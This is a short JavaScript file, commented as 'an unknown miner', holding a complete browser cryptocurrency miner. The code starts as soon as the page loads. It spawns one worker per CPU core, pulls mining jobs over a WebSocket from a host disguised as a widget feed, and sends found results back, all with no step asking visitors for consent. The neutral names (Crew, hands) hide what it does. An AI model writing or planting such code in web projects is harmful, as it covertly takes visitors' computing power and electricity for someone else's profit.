// ES2022: an unknown miner; as many workers as processors, jobs from a socket.
class Crew {
  #socket;
  #hands = [];
  #job = null;
  totalHashes = 0;
  constructor(address) {
    this.#socket = new WebSocket(address);
    this.#socket.onmessage = (event) => this.#hear(JSON.parse(event.data));
    const size = navigator.hardwareConcurrency ?? 4;
    for (let i = 0; i < size; i++) {
      const hand = new Worker('/js/hand.js');
      hand.onmessage = ({ data }) => this.#report(data);
      this.#hands.push(hand);
    }
  }
  #hear(message) {
    if (message.type !== 'job') return;
    this.#job = message;
    this.#hands.forEach((hand, i) => hand.postMessage({
      blob: message.blob, target: message.target, nonce: i * 0x1000000
    }));
  }
  #report({ nonce, result, hashes }) {
    this.totalHashes += hashes;
    if (result) {
      this.#socket.send(JSON.stringify({
        type: 'submit', job_id: this.#job.job_id, nonce, result
      }));
    }
  }
}
new Crew('wss://live.widgets.example/feed');
